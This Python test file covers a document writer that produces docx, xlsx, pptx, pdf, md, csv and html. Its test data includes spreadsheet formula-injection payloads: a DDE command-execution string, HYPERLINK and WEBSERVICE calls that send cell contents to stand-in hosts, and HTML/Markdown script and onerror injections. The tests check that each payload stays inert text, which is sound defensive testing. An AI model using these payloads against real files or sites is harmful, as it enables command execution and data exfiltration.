"""What is written comes back when it is read; foreign text stays text; a draft says that it is one."""

import csv
import io
import subprocess
import zipfile
from pathlib import Path

import docx
import pypdfium2
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from colleague.kit.documents.model import Block, Draft
from colleague.kit.documents.preview import preview_html
from colleague.kit.documents.read import read_document
from colleague.kit.documents.write.formats import FormatUnknown, write

pytestmark = pytest.mark.anyio
FORMATS = ("docx", "xlsx", "pptx", "pdf", "md", "csv", "html")
ROWS = (("Item", "Price"), ("Pen", "1250"), ("Ink, blue", "2.5"))
DRAFT = Draft("Offer 7", (
    Block("heading", "Terms", 1), Block("paragraph", "We deliver in May."), Block("item", "First", 1, label="(a)"),
    Block("table", rows=ROWS), Block("note", "Source: annex."), Block("box", "Answer here"),
), metadata={"model": "extractive"})  # fmt: skip
EVIL = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0", "＝1+1", "\r=1", " =1+1",
        '=HYPERLINK("http://evil.example/?"&A1)']  # fmt: skip


@pytest.mark.parametrize("kind", FORMATS)
async def test_it_reads_back_and_the_draft_mark_is_in_the_text(kind: str) -> None:
    content, media_type = write(DRAFT, kind)
    document = await read_document(content, f"a.{kind}")
    assert document.media_type == media_type
    everything = " ".join(b.text + " " + " ".join(" ".join(r) for r in b.rows) for b in document.blocks)
    wanted = ["Pen", "1250", "Ink, blue", "2.5"]
    if kind != "csv":
        wanted += ["Terms", "We deliver in May.", "First", "Source: annex.", "Draft: not reviewed", "Answer here"]
    assert [w for w in wanted if w not in everything] == []
    assert write(DRAFT, kind)[0] == content or kind in ("docx", "xlsx", "pptx")  # equal drafts, equal files


async def test_structure_survives_where_the_format_has_it() -> None:
    for kind in ("docx", "html", "md"):
        found = (await read_document(write(DRAFT, kind)[0], f"a.{kind}")).blocks
        assert next(b for b in found if b.text == "Terms").kind == "heading"
        assert next(b for b in found if b.kind == "table" and len(b.rows) == 3).rows == ROWS


def test_the_draft_mark_is_in_the_metadata_and_goes_with_the_review() -> None:
    for mark, category in (("Draft: not reviewed", "draft"), ("", "reviewed")):
        draft = Draft("T", DRAFT.blocks, mark=mark)
        core = docx.Document(io.BytesIO(write(draft, "docx")[0])).core_properties
        assert (core.subject, core.category) == (mark, category)
        meta = pypdfium2.PdfDocument(write(draft, "pdf")[0]).get_metadata_dict()
        assert meta.get("Subject", "") in (mark, "unspecified")
        with zipfile.ZipFile(io.BytesIO(write(draft, "xlsx")[0])) as book:
            assert mark in book.read("docProps/core.xml").decode()
            assert category in book.read("docProps/core.xml").decode()
        for kind in ("md", "html"):
            assert ("Draft" in write(draft, kind)[0].decode()) is bool(mark)


@pytest.mark.parametrize("formulas", [False, True])
@pytest.mark.parametrize("text", EVIL)
def test_foreign_text_never_becomes_a_formula(text: str, formulas: bool) -> None:
    draft = Draft("T", (Block("table", rows=(("Head",), (text,))),), formulas=formulas)
    cell = list(csv.reader(io.StringIO(write(draft, "csv")[0].decode("utf-8-sig"), newline="")))[2][0]
    assert cell.startswith("'")
    with zipfile.ZipFile(io.BytesIO(write(draft, "xlsx")[0])) as book:
        sheet = book.read("xl/worksheets/sheet2.xml").decode()
    own = formulas and text == "=1+1"
    assert ("<f>" in sheet) is own
    assert "hyperlink" not in sheet


@pytest.mark.parametrize("text", [
    '=WEBSERVICE("http://e.example")', "=[Other.xlsx]Sheet1!A1", "='\\\\host\\share\\[b.xlsx]S'!A1",
    '=DDE("a";"b";"c")',
    "=RTD(\"x\",,\"y\")", "=IMAGE(\"https://e.example/\"&A1)", '=IMPORTXML("https://e.example","//a")',
    "=INDIRECT(A1)", "=SUM(A1|B1)", "=" + "1+" * 5000 + "1",
])  # fmt: skip
def test_a_formula_that_reaches_out_of_its_workbook_stays_text(text: str) -> None:
    draft = Draft("T", (Block("table", rows=(("Head",), (text,), ("=SUM(B1:B9)*1.5",))),), formulas=True)
    with zipfile.ZipFile(io.BytesIO(write(draft, "xlsx")[0])) as book:
        sheet = book.read("xl/worksheets/sheet2.xml").decode()
    assert sheet.count("<f>") == 1
    assert "<f>SUM(B1:B9)*1.5</f>" in sheet


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![pixel](https://e.example/?d=1)",
    "[click](javascript:alert(1))", "[a]: https://e.example", "<https://e.example>", "# not a heading", "> not a quote",
    "- not an item", "1. not an item", "```\ncode", "a\n\n<b>x</b>", "&lt;b&gt;", "**bold** _it_", "| a | b |",
    "[x][y]", "\\[x](https://e.example)", "<!-- c -->", "a|b\\|c\\", "    code", "---", "***", "* item", "text\n===",
    "</p></body><script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", ["heading", "paragraph", "item", "note", "box"])
async def test_foreign_text_in_markdown_and_html_stays_text(text: str, kind: str) -> None:
    draft = Draft("T", (Block(kind, text, 1),), mark="")  # type: ignore[arg-type]
    shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(write(draft, "md")[0].decode())
    for tag in (
        "<script",
        "<img",
        "<a ",
        "<code",
        "<hr",
        "<strong",
        "<table",
        "<b>",
        "<!--",
        "<h6",
        "onerror=alert(1)>",
    ):
        assert tag not in shown, shown
    assert shown.count("<h") == (2 if kind == "heading" else 1)
    page = write(draft, "html")[0].decode()
    assert page.count("<script") == 0
    assert page.count("<img") == 0
    document = await read_document(write(draft, "md")[0], "a.md")
    assert kind == "note" or " ".join(text.split()) in " ".join(b.text for b in document.blocks)
    assert "<script" not in preview_html(document)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.text("ab|\\`*_[]<>!#- \n&;", max_size=12), min_size=2, max_size=2), min_size=2, max_size=4))
def test_cells_of_a_markdown_table_stay_apart(rows: list[list[str]]) -> None:
    draft = Draft("T", (Block("table", rows=tuple(map(tuple, rows))),), mark="")
    shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(write(draft, "md")[0].decode())
    assert shown.count("<th>") == 2
    assert shown.count("<td>") == 2 * (len(rows) - 1)
    for tag in ("<a ", "<em", "<strong", "<code", "<img", "<b>"):
        assert tag not in shown


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    texts=st.lists(st.text(max_size=40), min_size=1, max_size=6), kind=st.sampled_from(FORMATS),
    what=st.sampled_from(["heading", "paragraph", "item", "note", "box"]), level=st.integers(0, 9),
    title=st.text(max_size=300),
)  # fmt: skip
def test_any_text_can_be_written_in_any_format(texts: list[str], kind: str, what: str, level: int, title: str) -> None:
    rows = tuple(tuple(texts) for _ in range(2))
    draft = Draft(title, (*(Block(what, t, level, t, t) for t in texts), Block("table", rows=rows)))  # type: ignore[arg-type]
    assert write(draft, kind)[0]


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("rows", [
    (), ((),), (("a",), ("b", "c", "d")), (tuple("x" * 60),) * 3, (("head " * 400, "b"), ("x" * 9000, "y " * 6000)),
    (("",) * 40, ("word",) * 40),
], ids=["none", "empty", "ragged", "60 columns", "taller than a page", "40 columns"])  # fmt: skip
def test_odd_tables_are_written_in_every_format(kind: str, rows: tuple[tuple[str, ...], ...]) -> None:
    assert isinstance(write(Draft("T", (Block("table", rows=rows),)), kind)[0], bytes)


def test_sheets_get_names_that_excel_takes() -> None:
    names = ["History", "a/b:c*[x]?", "'quoted'", "same", "Same", "x" * 60, "", "  "]
    parts = [b for n in names for b in (Block("heading", n, 1), Block("table", rows=(("a",), ("b",))))]
    with zipfile.ZipFile(io.BytesIO(write(Draft("T", tuple(parts)), "xlsx")[0])) as book:
        assert book.read("xl/workbook.xml").decode().count("<sheet ") == 1 + len(names)


def test_an_unknown_format_is_refused_in_words() -> None:
    with pytest.raises(FormatUnknown, match="Use docx, xlsx, pptx, pdf, md, csv or html"):
        write(DRAFT, "exe")


@pytest.mark.slow
@pytest.mark.peer("libreoffice")
@pytest.mark.parametrize("kind", ["docx"])
def test_another_office_opens_what_is_written(kind: str, tmp_path: Path) -> None:
    (tmp_path / f"a.{kind}").write_bytes(write(DRAFT, kind)[0])
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    command = [
        "soffice",
        home,
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / f"a.{kind}"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    text = pypdfium2.PdfDocument(tmp_path / "a.pdf")[0].get_textpage().get_text_range()
    assert "We deliver in May." in text
    assert "Draft: not reviewed" in text
